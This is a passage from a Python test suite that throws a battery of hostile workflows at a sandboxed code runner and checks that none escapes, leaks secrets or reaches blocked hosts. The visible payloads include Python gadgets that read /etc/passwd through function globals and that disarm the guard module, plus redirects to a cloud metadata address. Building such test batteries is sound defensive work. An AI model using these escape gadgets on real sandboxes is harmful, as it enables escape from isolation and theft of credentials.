         "        loot = g['builtins'].open('/etc/passwd').read()"),
        ("gadget: singledispatch annotation eval", Y, "reject", 20, "import functools\n",
         "@functools.singledispatch\ndef g(x):\n    return 0\n"
         "def h(a: \"open('/etc/passwd').read()\"):\n    return 1\n"
         "try:\n    g.register(h)\nexcept (TypeError, SyntaxError) as e:\n    loot = str(e)"),
        ("gadget: re-arm/disarm the guard", Y, "reject", 20, "",
         "s = ctx.log.info.__func__.__globals__['sys']\n"
         "g = s.modules['_calseta_guard']\ng.configure((), print)\n"
         "loot = s.modules['builtins'].open('/etc/passwd').read()"),
    ]
    out = []
    for name, cat, save, timeout, imports, body in t:
        code = wrap(imports, body)
        for k, v in p.items():
            code = code.replace("{" + k + "}", str(v))
        out.append({"name": name, "category": cat, "save": save, "timeout": timeout, "code": code})
    return out


def wrap(imports, body):
    lines = "\n".join("    " + l for l in body.splitlines())
    return (HDR + imports + "async def run(ctx):\n" + lines + "\n"
            "    return WorkflowResult.ok('escaped', {'loot': repr(loot)[:100000]})\n")


# ---- well-behaved workflows --------------------------------------------------------------

def good_workflows(p):
    w = {
        "http GET": ("",
                     "r = await ctx.http.get('{STANDIN}/echo', params={'q': 'a b'},"
                     " headers={'X-Test': 'hello'})\nr.raise_for_status()\n"
                     "return WorkflowResult.ok('got', {'status': r.status_code, 'echo': r.json()})",
                     {"status": 200, "echo": {"method": "GET", "path": "/echo?q=a+b",
                                              "x_test": "hello", "body": ""}}),
        "http POST json": ("",
                           "r = await ctx.http.post('{STANDIN}/echo', json={'indicator':"
                           " ctx.indicator.value, 'n': [1, 2, 3]})\n"
                           "return WorkflowResult.ok('posted', {'status': r.status_code,"
                           " 'echo': r.json()})",
                           {"status": 200, "echo": {"method": "POST", "path": "/echo",
                                                    "x_test": None,
                                                    "body": json.dumps({"indicator": INDICATOR,
                                                                        "n": [1, 2, 3]})}}),
        "json": ("import json\n",
                 "doc = {'a': [1, 2.5, None, True], 'b': {'c': 'caf\\u00e9'}}\n"
                 "s = json.dumps(doc, sort_keys=True)\n"
                 "return WorkflowResult.ok('json', {'text': s, 'back': json.loads(s)})",
                 {"text": json.dumps({"a": [1, 2.5, None, True], "b": {"c": "caf\u00e9"}},
                                     sort_keys=True),
                  "back": {"a": [1, 2.5, None, True], "b": {"c": "caf\u00e9"}}}),
        "hashlib": ("import hashlib\nimport hmac\n",
                    "return WorkflowResult.ok('hash', {"
                    "'sha256': hashlib.sha256(ctx.indicator.value.encode()).hexdigest(),"
                    " 'md5': hashlib.md5(b'calseta').hexdigest(),"
                    " 'hmac': hmac.new(b'k', b'm', 'sha256').hexdigest()})",
                    {"sha256": hashlib.sha256(INDICATOR.encode()).hexdigest(),
                     "md5": hashlib.md5(b"calseta").hexdigest(),
                     "hmac": hmac.new(b"k", b"m", "sha256").hexdigest()}),
        "datetime": ("import datetime\n",
                     "utc = datetime.timezone.utc\n"
                     "d = datetime.datetime(2024, 2, 28, 12, 0, tzinfo=utc)"
                     " + datetime.timedelta(days=2, hours=13)\n"
                     "return WorkflowResult.ok('dt', {'iso': d.isoformat(), 'weekday': d.weekday(),"
                     " 'secs': (d - datetime.datetime(2024, 1, 1, tzinfo=utc)).total_seconds()})",
                     None),
        "base64/re/ipaddress": ("import base64\nimport re\nimport ipaddress\n",
                                "net = ipaddress.ip_network('198.51.100.0/24')\n"
                                "ctx.log.info('misc done', n=3)\n"
                                "return WorkflowResult.ok('misc', {"
                                "'b64': base64.b64encode(b'calseta').decode(),"
                                " 're': re.findall(r'\\d+', 'a1b22c333'),"
                                " 'in_net': ipaddress.ip_address(ctx.indicator.value) in net,"
                                " 'private': ipaddress.ip_address('10.1.2.3').is_private})",
                                {"b64": base64.b64encode(b"calseta").decode(),
                                 "re": ["1", "22", "333"], "in_net": True, "private": True}),
        "declared secret": ("",
                            "return WorkflowResult.ok('sec', {'tok': ctx.secrets.get('API_TOKEN'),"
                            " 'key': ctx.secrets.get('ENCRYPTION_KEY')})",
                            {"tok": GOOD_TOKEN, "key": None}),
    }
    utc = datetime.timezone.utc
    d = datetime.datetime(2024, 2, 28, 12, 0, tzinfo=utc) + datetime.timedelta(days=2, hours=13)
    expected_dt = {"iso": d.isoformat(), "weekday": d.weekday(),
                   "secs": (d - datetime.datetime(2024, 1, 1, tzinfo=utc)).total_seconds()}
    out = {}
    for name, (imports, body, expected) in w.items():
        code = HDR + imports + "async def run(ctx):\n" + "\n".join(
            "    " + l for l in body.splitlines()) + "\n"
        for k, v in p.items():
            code = code.replace("{" + k + "}", str(v))
        out[name] = (code, expected if expected is not None else expected_dt)
    return out


# ---- local servers -----------------------------------------------------------------------

class StandIn(http.server.BaseHTTPRequestHandler):
    """The allowed ctx.http target: echo, redirects to blocked addresses, huge and slow replies."""
    seen = []  # (method, path, header names)
    canary_port = 0
    stop = threading.Event()

    def _reply(self):
        StandIn.seen.append((self.command, self.path, [k.lower() for k in self.headers.keys()]))
        n = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(n).decode() if n else ""
        path = self.path
        if path.startswith("/redirect-"):
            to = ("http://169.254.169.254/latest/meta-data/" if path == "/redirect-metadata"
                  else "http://127.0.0.1:%d/loot" % StandIn.canary_port)
            self.send_response(302)
            self.send_header("Location", to)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        if path == "/huge":
            size = 20 * 1024 * 1024
            self.send_response(200)
            self.send_header("Content-Length", str(size))
            self.end_headers()
            try:
                chunk = b"h" * 65536
                for _ in range(size // len(chunk)):
                    self.wfile.write(chunk)
            except OSError:
                pass
            return
        if path == "/slow":
            StandIn.stop.wait(30)
        out = json.dumps({"method": self.command, "path": path,
                          "x_test": self.headers.get("X-Test"), "body": body}).encode()
        try:
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(out)))
            self.end_headers()
            self.wfile.write(out)
        except OSError:
            pass

    do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = do_HEAD = do_OPTIONS = _reply

    def log_message(self, *a):
        pass


class Canary:
    """A TCP listener on loopback that answers with loot and counts every connection."""

    def __init__(self):
        self.hits = []
        self.socks = []
        s = socket.socket()
        s.bind(("127.0.0.1", 0))
        self.port = s.getsockname()[1]
        self.socks.append(s)
        try:
            s6 = socket.socket(socket.AF_INET6)
            s6.bind(("::1", self.port))
            self.socks.append(s6)
        except OSError:
            pass
        self.stopping = False
        self.threads = []
        for so in self.socks:
            so.listen(64)
            so.settimeout(0.2)
            th = threading.Thread(target=self._serve, args=(so,), daemon=True)
            th.start()
            self.threads.append(th)

    def _serve(self, so):
        while not self.stopping:
            try:
                c, addr = so.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            self.hits.append(addr)
            try:
                body = SOCK_CANARY.encode()
                c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
            except OSError:
                pass
            c.close()

    def close(self):
        self.stopping = True
        for th in self.threads:
            th.join(2)
        for so in self.socks:
            so.close()


# ---- helpers -----------------------------------------------------------------------------

def psql_json_rows(url, sql):
    """One JSON value per row (records separated by NUL, so text may hold newlines)."""
    r = subprocess.run(["psql", url, "-X", "-q", "-t", "-A", "-0", "-v", "ON_ERROR_STOP=1",
                        "-c", sql], capture_output=True, timeout=120)
    if r.returncode != 0:
        raise RuntimeError("psql failed: %s\n%s" % (sql[:300], r.stderr.decode(errors="replace")))
    return [json.loads(x) for x in r.stdout.decode("utf-8").split("\0") if x.strip()]


def dollar(text):
    tag = "esc_" + uuid.uuid4().hex[:10]
    assert "$" + tag + "$" not in text
    return "$%s$%s$%s$" % (tag, text, tag)


def wf_body(name, code, timeout, secret_names=()):
    return {"name": name, "code": code, "state": "active", "approval_mode": "never",
            "timeout_seconds": timeout, "indicator_types": ["ip"],
            "secret_names": list(secret_names)}


def create(s, k, name, code, timeout, secret_names=()):
    r = s.request("POST", "/v1/workflows", key=k, body=wf_body(name, code, timeout, secret_names))
    return r


def execute(s, k, wf_uuid):
    r = s.request("POST", "/v1/workflows/%s/execute" % wf_uuid, key=k,
                  body={"indicator_type": "ip", "indicator_value": INDICATOR})
    assert_eq(r.status, 202, (wf_uuid, r.body))
    d = r.json()["data"]
    assert_eq(d["status"], "queued", d)
    return d["run_uuid"]


def wait_runs(s, run_uuids, timeout):
    """Waits until none of the runs is queued/running; returns those that still are."""
    ids = ",".join("'%s'" % u for u in run_uuids)
    deadline = time.time() + timeout
    while True:
        left = [r[0] for r in s.sql("SELECT uuid FROM workflow_runs WHERE uuid IN (%s) AND status "
                                    "IN ('queued', 'running')" % ids)]
        if not left or time.time() > deadline:
            return left
        time.sleep(0.3)


def load_runs(s, run_uuids):
    rows = psql_json_rows(s.db, "SELECT json_build_object('uuid', r.uuid, 'status', r.status, "
                                "'result', r.result, 'log_output', r.log_output, 'duration_ms', "
                                "r.duration_ms, 'result_len', length(r.result::text), 'attempts', "
                                "r.attempt_count)::text "
                                "FROM workflow_runs r WHERE r.uuid IN (%s)" %
                          ",".join("'%s'" % u for u in run_uuids))
    return {r["uuid"]: r for r in rows}


def submit_all(s, k, wf_uuids):
    """Executes every workflow close together (8 concurrent clients); run uuids in order."""
    with concurrent.futures.ThreadPoolExecutor(8) as ex:
        return list(ex.map(lambda u: execute(s, k, u), wf_uuids))


# ---- the test ----------------------------------------------------------------------------

def test_escape_battery():
    db_password = urllib.parse.urlsplit(BASE_URL).password or ""
    mark = tempfile.mkdtemp(prefix="esc-marks-")
    os.chmod(mark, 0o777)
    canary_file = os.path.join(mark, "..", os.path.basename(mark) + "-canary")
    canary_file = os.path.normpath(canary_file)
    with open(canary_file, "w") as f:
        f.write(FILE_CANARY + "\n")
    os.chmod(canary_file, 0o644)
    canary = Canary()
    StandIn.canary_port = canary.port
    StandIn.seen = []
    StandIn.stop.clear()
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), StandIn)
    srv.daemon_threads = True
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    standin_port = srv.server_address[1]
    s = Stack("escape", services=SERVICES, env={
        "ENCRYPTION_KEY": FERNET_KEY,
        "SSRF_ALLOWED_HOSTS": "localhost",
        "CALSETA_ESC_ENV_CANARY": ENV_CANARY,
        "RATE_LIMIT_DEFAULT_PER_MINUTE": 1000000,
        "RATE_LIMIT_WORKFLOW_EXECUTE_PER_MINUTE": 1000000,
    })
    t0 = time.time()
    try:
        runner = [p for p in s.procs if p.name == "runner"][0]
        intake = s.intakes[0]
        runner_pid = runner.p.pid
        k = s.create_key("admin")
        s.sql("INSERT INTO indicators (type, value, first_seen, last_seen, malice) VALUES "
              "('ip', '%s', now(), now(), 'Pending') ON CONFLICT DO NOTHING" % INDICATOR)
        p = {"CANARY_PORT": canary.port, "INTAKE_PORT": s.port, "STANDIN_PORT": standin_port,
             "STANDIN": "http://localhost:%d" % standin_port, "RUNNER_PID": runner_pid,
             "INTAKE_PID": intake.p.pid, "MARK": mark, "CANARY_FILE": canary_file}
        hostile = battery(p)
        good = good_workflows(p)
        assert len(hostile) >= 40, len(hostile)
        assert len({h["name"] for h in hostile}) == len(hostile), "duplicate names"
        loot_markers = ["root:x:0", FILE_CANARY, SOCK_CANARY, FERNET_KEY, ENV_CANARY,
                        UNDECLARED_VALUE, GOOD_TOKEN, "DATABASE_URL=", "ENCRYPTION_KEY=",
                        "PATH=/"]
        if db_password:
            loot_markers.append(db_password)

        # -- well-behaved workflows (one declares API_TOKEN, which an admin allows) --
        good_uuids = {}
        for name, (code, _) in good.items():
            r = create(s, k, "good " + name, code, 30,
                       ["API_TOKEN"] if name == "declared secret" else ())
            assert_eq(r.status, 201, (name, r.body))
            good_uuids[name] = r.json()["data"]["uuid"]
        r = s.request("PUT", "/v1/workflows/%s/secrets/API_TOKEN" % good_uuids["declared secret"],
                      key=k, body={"value": GOOD_TOKEN})
        assert_eq(r.status, 200, r.body)

        # -- save every hostile workflow; the refused ones are planted through SQL --
        placeholder = HDR + "async def run(ctx):\n    return WorkflowResult.ok('placeholder')\n"
        tamper = []
        for h in hostile:
            r = create(s, k, "evil " + h["name"], h["code"], h["timeout"])
            if r.status == 201:
                h["saved"] = True
                h["uuid"] = r.json()["data"]["uuid"]
            else:
                assert_eq(r.status, 400, (h["name"], r.body))
                assert_eq(r.json()["error"]["code"], "WORKFLOW_CODE_INVALID", h["name"])
                h["saved"] = False
                r = create(s, k, "evil " + h["name"], placeholder, h["timeout"])
                assert_eq(r.status, 201, r.body)
                h["uuid"] = r.json()["data"]["uuid"]
                tamper.append("UPDATE workflows SET code = %s WHERE uuid = '%s';"
                              % (dollar(h["code"]), h["uuid"]))
            if h["save"] == "reject":
                assert not h["saved"], "%s: accepted at save time" % h["name"]
        s.sql("\n".join(tamper))
        stored = psql_json_rows(s.db, "SELECT json_object_agg(uuid, code)::text FROM workflows")[0]
        for h in hostile:
            assert_eq(stored[h["uuid"]], h["code"], h["name"])
        # the undeclared secret: stored for the workflow that asks for it, never declared
        und = [h for h in hostile if h["name"] == "ctx.secrets undeclared name"][0]
        r = s.request("PUT", "/v1/workflows/%s/secrets/UNDECLARED_TOKEN" % und["uuid"], key=k,
                      body={"value": UNDECLARED_VALUE})
        assert_eq(r.status, 200, r.body)

        # -- execute: spinners first, then hostile and well-behaved ones interleaved --
        order = [h for h in hostile if h["timeout"] <= 4]
        rest = [h for h in hostile if h["timeout"] > 4]
        random.Random(7).shuffle(rest)
        jobs = [("h", h) for h in order]
        goods = list(good.items())
        for i, h in enumerate(rest):
            jobs.append(("h", h))
            if i % 12 == 5:
                jobs.append(("g", goods[(i // 12) % len(goods)][0]))
        jobs += [("g", name) for name, _ in goods]
        t_submit = time.time()
        run_ids = submit_all(s, k, [h["uuid"] if kind == "h" else good_uuids[h] for kind, h in jobs])
        for (kind, h), run in zip(jobs, run_ids):
            if kind == "h":
                h["run"] = run
        good_runs = [(name, run) for (kind, name), run in zip(jobs, run_ids) if kind == "g"]
        # The runner executes RUNNER_CONCURRENCY (4) runs at once, so the batch needs about the
        # sum of the timeouts / 4 when the machine is idle, and more on a loaded one (a fixed 75 s
        # failed there). This wait only bounds the test; what the product promises is per run: a
        # run is stopped at its own deadline and recorded by the process that leased it, checked
        # below from its recorded duration and attempt count.
        batch_wait = 60 + sum(h["timeout"] for h in hostile) / 4.0 * 2
        stuck = wait_runs(s, run_ids, batch_wait)
        print("battery: %d hostile + %d well-behaved runs submitted, %d not finished after %.1fs" %
              (len(hostile), len(good_runs), len(stuck), time.time() - t_submit), flush=True)

        # -- the runner kept serving: well-behaved workflows after the battery --
        after = submit_all(s, k, [good_uuids[name] for name, _ in goods])
        good_runs += list(zip([name for name, _ in goods], after))
        stuck_after = wait_runs(s, after, 45)

        runs = load_runs(s, [h["run"] for h in hostile] + [r for _, r in good_runs])
        problems = []
        for h in hostile:
            run = runs[h["run"]]
            if h["run"] in stuck:
                problems.append("%s: run %s not recorded within %.0f s of the batch's submission "
                                "(status now '%s')" % (h["name"], h["run"], batch_wait,
                                                      run["status"]))
                continue
            # started_at is the first lease, kept when a busy runner gives the run back, so time
            # from it says nothing; a timeout's duration is checked below, and here that the
            # process that leased the run recorded it (no lease expired)
            if run["attempts"] != 1:
                problems.append("%s: run %s took %s attempts (a lease expired: the runner did "
                                "not answer in time)" % (h["name"], h["run"], run["attempts"]))
        if stuck_after:
            problems.append("well-behaved runs after the battery not finished: %r" % stuck_after)
        for name, run_uuid in good_runs:
            run = runs[run_uuid]
            want = good[name][1]
            if run["status"] != "success" or run["result"]["data"] != want:
                problems.append("good %s: %s %r (want %r)" % (name, run["status"],
                                                             run["result"], want))
            if name == "base64/re/ipaddress" and "misc done" not in (run["log_output"] or ""):
                problems.append("good %s: log missing: %r" % (name, run["log_output"]))

        # -- every hostile run: a recorded, safe failure without loot, bounded --
        for h in hostile:
            run = runs.get(h["run"])
            if run is None:
                problems.append("%s: no run recorded" % h["name"])
                continue
            h["status"] = run["status"]
            if h["run"] in stuck:
                continue
            res = run["result"] or {}
            msg = res.get("message", "") if isinstance(res, dict) else ""
            h["message"] = msg
            text = json.dumps(res) + (run["log_output"] or "")
            if run["status"] not in ("failed", "timed_out"):
                problems.append("%s: status %s: %s" % (h["name"], run["status"], text[:600]))
            if not isinstance(res, dict) or res.get("success") is not False:
                problems.append("%s: result not a failure: %r" % (h["name"], text[:300]))
            for m in loot_markers:
                if m in text:
                    problems.append("%s: LOOT %r in the stored run: %s" % (h["name"], m, text[:600]))
            log = run["log_output"] or ""
            if len(log.encode()) > MAX_LOG + 200:
                problems.append("%s: log_output of %d bytes" % (h["name"], len(log.encode())))
            if run["result_len"] is not None and run["result_len"] > MAX_FRAME + 4096:
                problems.append("%s: result of %d bytes" % (h["name"], run["result_len"]))
            # (the two spinners that first need the Python gadget to reach fd 3 are now refused
            # at run time by validation: the gadget is closed; test_runner_sandbox.py keeps their
            # channel-abuse scenarios with every Python layer off)
            gadget_refused = (h["name"].startswith("gadget:") and not h["saved"] and
                              msg.startswith("Workflow code failed validation"))
            if h["category"] == "spin/sleep" and run["status"] != "timed_out" and \
                    not gadget_refused:
                problems.append("%s: expected timed_out, got %s: %s" % (h["name"], run["status"],
                                                                        msg[:300]))
            if run["status"] == "timed_out" and (run["duration_ms"] or 0) > (h["timeout"] + 5) * 1000:
                problems.append("%s: timed out only after %s ms" % (h["name"], run["duration_ms"]))
            if h["category"] == "memory" and not ("memory" in msg.lower() or
                                                  run["status"] == "timed_out"):
                problems.append("%s: not stopped by the memory limit: %s" % (h["name"], msg[:300]))
            if h["category"] == "huge logs" and len(log.encode()) > 2 * 1024 * 1024:
                problems.append("%s: log not bounded" % h["name"])
            if h["name"] in ("one 15 MB log line", "10 MB log extra field", "print flood") and \
                    run["status"] == "failed" and "log output truncated" not in log:
                problems.append("%s: no truncation note: %r" % (h["name"], log[-300:]))
            if h["name"].startswith("302 from stand-in") and \
                    not msg.startswith("302 not followed; manual follow blocked"):
                problems.append("%s: %s" % (h["name"], msg[:300]))
            if h["name"] == "150 requests to metadata" and "too many ctx.http requests" not in msg:
                problems.append("%s: %s" % (h["name"], msg[:300]))
            if h["name"].startswith("ctx.http ") and "blocked by SSRF guard" not in msg:
                problems.append("%s: not blocked by the SSRF guard: %s" % (h["name"], msg[:300]))
            if h["category"] == "secrets/env" and h["saved"] and "Traceback" in msg:
                problems.append("%s: unexpected error: %s" % (h["name"], msg[:300]))

        # -- no side effect anywhere --
        if os.listdir(mark):
            problems.append("marker files created by workflows: %r" % os.listdir(mark))
        if canary.hits:
            problems.append("the canary listener was reached %d times" % len(canary.hits))
        for method, path, hdrs in StandIn.seen:
            if "x-injected" in hdrs or method not in ("GET", "POST"):
                problems.append("stand-in saw an injected request: %s %s %r" % (method, path, hdrs))
        hits = [path for _, path, _ in StandIn.seen]
        for path in ("/redirect-metadata", "/redirect-loopback"):
            if hits.count(path) != 1:
                problems.append("stand-in: %s requested %d times" % (path, hits.count(path)))

        # -- the services: same runner process, intake healthy, runs recorded once --
        if not runner.alive() or runner.p.pid != runner_pid:
            problems.append("the runner died or was replaced:\n" + runner.text()[-3000:])
        if not intake.alive():
            problems.append("the intake died:\n" + intake.text()[-3000:])
        else:
            r = s.request("GET", "/health")
            if r.status != 200:
                problems.append("intake /health: %r" % r)
        n = s.sql_value("SELECT count(*) FROM workflow_runs")
        if int(n) != len(hostile) + len(good_runs):
            problems.append("%s runs, %d expected" % (n, len(hostile) + len(good_runs)))
        # the list API reports the same outcome as the table
        lst = s.request("GET", "/v1/workflow-runs?page_size=500", key=k)
        assert_eq(lst.status, 200)
        api = {x["uuid"]: x["status"] for x in lst.json()["data"]}
        for h in hostile:
            if h["run"] not in stuck and api.get(h["run"]) != h.get("status"):
                problems.append("%s: API says %s, table %s" % (h["name"], api.get(h["run"]),
                                                               h.get("status")))

        # -- the battery, by category --
        print("%-16s %5s %14s %8s %9s  %s" % ("category", "count", "refused@save", "failed",
                                              "timed_out", "other"))
        cats = []
        for h in hostile:
            if h["category"] not in cats:
                cats.append(h["category"])
        for c in cats:
            hs = [h for h in hostile if h["category"] == c]
            st = [h.get("status") for h in hs]
            other = len([x for x in st if x not in ("failed", "timed_out")])
            print("%-16s %5d %14d %8d %9d  %d" % (c, len(hs), len([h for h in hs if not h["saved"]]),
                                                st.count("failed"), st.count("timed_out"), other))
        print("%-16s %5d %14d" % ("total", len(hostile), len([h for h in hostile if not h["saved"]])))
        bypass = [h["name"] for h in hostile if h["saved"] and h["category"] in (
            "file reads", "processes", "fork bomb", "sockets", "native code", "signals/rlimits",
            "py gadgets")]
        print("accepted at save time (contained only at run time): %d: %s" %
              (len(bypass), "; ".join(bypass)))
        if os.environ.get("ESC_VERBOSE"):
            for h in hostile:
                last = (h.get("message") or "").strip().splitlines() or [""]
                print("  %-45s %-10s %s" % (h["name"][:45], h.get("status"), last[-1][:140]))
        # the runner's own initial environment (inherited by every fork, readable only by a
        # memory read inside a child): reported, not asserted here
        try:
            with open("/proc/%d/environ" % runner_pid, "rb") as f:
                env_block = f.read()
            if FERNET_KEY.encode() in env_block:
                print("NOTE: the runner's initial environment block (/proc/%d/environ) still holds "
                      "ENCRYPTION_KEY; every run child is a fork of it" % runner_pid)
        except OSError:
            pass
        print("total %.1fs" % (time.time() - t0))
        if problems:
            raise AssertionError("\n".join(problems[:80]) + "\n" + s.logs()[-4000:])
    finally:
        StandIn.stop.set()
        srv.shutdown()
        srv.server_close()
        canary.close()
        for f in os.listdir(mark):
            os.unlink(os.path.join(mark, f))
        os.rmdir(mark)
        os.unlink(canary_file)
        s.stop()


if __name__ == "__main__":
    run_tests(globals())
